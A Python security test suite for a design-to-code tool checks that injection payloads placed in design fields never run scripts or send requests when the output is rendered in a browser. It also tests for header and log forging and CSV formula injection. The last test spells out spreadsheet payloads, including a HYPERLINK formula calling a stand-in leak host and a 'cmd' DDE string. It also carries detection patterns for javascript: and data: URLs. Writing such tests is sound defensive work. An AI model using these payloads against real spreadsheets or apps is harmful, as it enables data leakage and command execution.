"""Every payload in every field of a design, in every output; what a browser can open is opened in one."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from collections.abc import AsyncIterator, Iterator
from html.parser import HTMLParser
from typing import Any

import httpx
import pytest
import tree_sitter_typescript
from playwright.sync_api import Browser, Page, Route
from redraft.codegen.targets import TARGETS, validated
from redraft.observability.logs import structured
from redraft.preview import render_html, render_svg
from redraft.security.headers import PREVIEW_POLICY
from redraft.wireframe.node import Design
from redraft.wireframe.repair import repair
from tree_sitter import Language, Node, Parser

from tests.security.conftest import bearer, serving
from tests.support.browser import CHROMIUM, browsing
from tests.support.issuer import Issuer
from tests.support.payloads import PAYLOADS

FIELDS = (
    "text content title label placeholder value alt name src href url action iconName type role id color "
    "backgroundColor background backgroundImage borderColor borderWidth borderRadius boxShadow width height padding "
    "margin gap fontSize fontFamily fontWeight textAlign opacity position layoutMode alignItems style className "
    "onClick dangerouslySetInnerHTML srcdoc xlink:href onload"
).split()
KINDS = (
    "Text Button Link Input Textarea Select Checkbox Image Icon Avatar Frame Badge ListItem Heading Slider Video Table "
    "Tabs Progress Chart Map Radio Toggle Divider List Card Form Odd<b>Kind"
).split()
_OUR_OWN = ('@import "tailwindcss"',)
_TSX = Parser(Language(tree_sitter_typescript.language_tsx()))
_TS = Parser(Language(tree_sitter_typescript.language_typescript()))


def node(number: int, payload: str) -> dict[str, Any]:
    props: dict[str, Any] = dict.fromkeys(FIELDS, payload)
    part = {"label": payload, "text": payload, "href": payload}
    props |= {"items": [payload, part], "options": [payload], payload: payload}
    kind = KINDS[number % len(KINDS)]
    return {"id": f"{payload}{number}"[:180], "type": kind, "componentName": payload, "props": props, "children": []}


def designs() -> list[Design]:
    """All payloads over a few designs, each with every kind of element."""
    size = 140
    parts = [PAYLOADS[start : start + size] for start in range(0, len(PAYLOADS), size)]
    pages = [[node(at, one) for at, one in enumerate(part)] for part in parts]
    return [repair({"type": "Frame", "componentName": "Page", "props": {}, "children": page}).design for page in pages]


@pytest.fixture(scope="module")
def attacked() -> list[Design]:
    return designs()


@pytest.fixture
def browser() -> Iterator[Browser]:
    if CHROMIUM is None:
        pytest.skip("there is no chromium here; `make browser` says how to get it")
    with browsing() as started:
        yield started


class Watched:
    """A page that sees what runs and what would leave."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.left: list[str] = []
        self.ran: list[str] = []
        page.expose_function("pwned", lambda *_: self.ran.append("pwned"))
        page.on("dialog", lambda dialog: (self.ran.append(dialog.message), dialog.dismiss()))
        page.on("popup", lambda popup: self.left.append(popup.url))

    def open(self, body: str, media: str, policy: str | None) -> None:
        headers = {"Content-Type": media, **({"Content-Security-Policy": policy} if policy else {})}
        first = True

        def answer(route: Route) -> None:
            nonlocal first
            if first:
                first = False
                route.fulfill(body=body.encode("utf-8", "replace"), headers=headers)
            else:
                self.left.append(route.request.url)
                route.abort()

        self.page.route("**/*", answer)
        self.page.goto("https://preview.example/", wait_until="load")
        self.page.unroute("**/*")


def test_there_are_more_than_300_payloads() -> None:
    assert len(PAYLOADS) > 300


def test_nothing_runs_and_nothing_leaves_when_a_browser_opens_it(attacked: list[Design], browser: Browser) -> None:
    html = next(target for target in TARGETS.values() if target.id == "html")
    for design in attacked:
        files = {file.path: file.content for file in html.write(design)}
        sheet = "".join(content for path, content in files.items() if path.endswith(".css"))
        page_of_code = files["index.html"].replace("</head>", f"<style>{sheet}</style></head>")
        for body, media, policy in (
            (render_html(design, title=PAYLOADS[0]), "text/html; charset=utf-8", PREVIEW_POLICY),
            # The page alone, as one that was saved: what is in it must be harmless without the header as well.
            (render_html(design), "text/html; charset=utf-8", None),
            (render_svg(design), "image/svg+xml", PREVIEW_POLICY),
            (render_svg(design), "image/svg+xml", None),
            (page_of_code, "text/html; charset=utf-8", None),
        ):
            watched = Watched(browser.new_page())
            watched.open(body, media, policy)
            # A pointer over all of it, and the focus on each thing that takes it.
            watched.page.mouse.move(50, 50)
            watched.page.keyboard.press("Tab")
            assert watched.ran == [], media
            # Files beside the page, as the code of a project has them, are no request that leaves.
            assert [url for url in watched.left if not url.startswith("https://preview.example/")] == [], media
            watched.page.close()


@pytest.mark.parametrize("name", sorted(TARGETS))
def test_code_holds_payloads_as_data_alone(attacked: list[Design], name: str) -> None:
    target = TARGETS[name]
    for design in attacked:
        files = target.write(design)
        code = validated(target, files)
        assert code.to_json()["validation_status"] == "SUCCESS", code.to_json()["errors"][:3]
        for file in files:
            assert calls_of(file.path, file.content) == [], file.path
            assert attributes_that_run(file.content if file.path.endswith((".html", ".vue", ".svelte")) else "") == []


def calls_of(path: str, content: str) -> list[str]:
    """Places where a payload would be called: outside of strings and of plain text."""
    if path.endswith((".tsx", ".ts")):
        parser = _TSX if path.endswith(".tsx") else _TS
        return [text for text in _called(parser.parse(content.encode()).root_node) if "pwned" in text or "leak" in text]
    if path.endswith((".vue", ".svelte")):
        pattern = r"{{(.*?)}}" if path.endswith(".vue") else r"{([^{}]*)}"
        template = re.sub(r"<(script|style)\b.*?</\1>", "", content, flags=re.DOTALL)
        scripts = re.findall(r"<script\b[^>]*>(.*?)</script>", content, flags=re.DOTALL)
        inside = [_without_strings(text) for text in re.findall(pattern, template, flags=re.DOTALL)]
        called = [
            text for script in scripts for text in _called(_TS.parse(script.encode()).root_node) if "pwned" in text
        ]
        return [text for text in inside if "pwned" in text] + called
    if path.endswith(".css"):
        return [text for text in re.findall(r"url\([^)]*\)|@import[^;]*|expression\(", content) if text not in _OUR_OWN]
    return []


def _called(root: Node) -> Iterator[str]:
    stack = [root]
    while stack:
        found = stack.pop()
        if found.type in ("call_expression", "new_expression"):
            function = found.child_by_field_name("function") or found.child_by_field_name("constructor")
            yield (function.text or b"").decode() if function is not None else ""
        stack.extend(found.children)


def _without_strings(text: str) -> str:
    return re.sub(r"\"(?:\\.|[^\"\\])*\"|'(?:\\.|[^'\\])*'", "", text)


class _Attributes(HTMLParser):
    def __init__(self, content: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(content)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            runs = name.startswith(("on", "v-", "@", ":", "(", "[")) and "pwned" in _without_strings(value or "")
            leads = name in ("href", "src", "action", "formaction", "srcdoc", "xlink:href") and re.match(
                r"[\s\x00-\x20]*((javascript|vbscript)\s*:|data:text|data:image/svg)", value or "", re.IGNORECASE
            )
            if runs or leads:
                self.found.append(f"{tag} {name}={value}")


def attributes_that_run(content: str) -> list[str]:
    # What Svelte binds as a string literal is no attribute's text.
    literal = r"={(?:'(?:\\.|[^'\\])*'|\"(?:\\.|[^\"\\])*\")}"
    return _Attributes(re.sub(literal, '=""', content)).found


@pytest.fixture
async def client(asking: dict[str, Any]) -> AsyncIterator[httpx.AsyncClient]:
    async with serving(**asking) as (_, made):
        yield made


@pytest.mark.anyio
async def test_payloads_in_headers_titles_and_prompts_forge_no_header_and_no_log_line(
    client: httpx.AsyncClient, issuer: Issuer, capsys: pytest.CaptureFixture[str]
) -> None:
    handlers, level = logging.getLogger("redraft").handlers, logging.getLogger("redraft").level
    structured("payloads")
    ada = bearer(issuer.token("ada"))
    try:
        for payload in PAYLOADS[::6]:
            plain = payload.encode("ascii", "ignore").decode().replace("\r", "").replace("\n", "").replace("\x00", "")
            body = {"prompt": payload, "title": payload[:200], "user_id": payload[:200]}
            headers = {**ada, "X-Request-Id": plain or "x", "Idempotency-Key": plain or "x", "User-Agent": plain or "x"}
            made = await client.post("/design-sessions", json=body, headers=headers)
            assert made.status_code in (201, 422), (payload, made.text)
            assert "pwned" not in str({name: made.headers[name] for name in made.headers if name != "location"})
            assert "set-cookie" not in made.headers
    finally:
        for handler in logging.getLogger("redraft").handlers:
            handler.flush()
        logging.getLogger("redraft").handlers, logging.getLogger("redraft").propagate = handlers, True
        logging.getLogger("redraft").setLevel(level)
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) >= len(PAYLOADS[::6])
    for line in lines:
        told = json.loads(line)
        assert "forged" not in str(told.get("message"))
        assert "pwned" not in line or "Idempotency" in line


@pytest.mark.anyio
async def test_tables_for_a_spreadsheet_hold_no_formula(client: httpx.AsyncClient, issuer: Issuer) -> None:
    for payload in ('=HYPERLINK("https://leak.example","x")', "+1+cmd|'/C calc'!A0", "-1+1|cmd", "@SUM(1+1)"):
        ada = bearer(issuer.token(payload))
        made = await client.post("/design-sessions", json={"prompt": "A page"}, headers=ada)
        found = await client.get(
            f"/analytics/session/{made.json()['session_id']}", params={"format": "csv"}, headers=ada
        )
        assert found.status_code == 200
        cells = [cell for row in csv.reader(io.StringIO(found.text)) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))], found.text
        assert not [cell for cell in cells if cell.startswith("-") and not re.fullmatch(r"-[\d.]+", cell)]
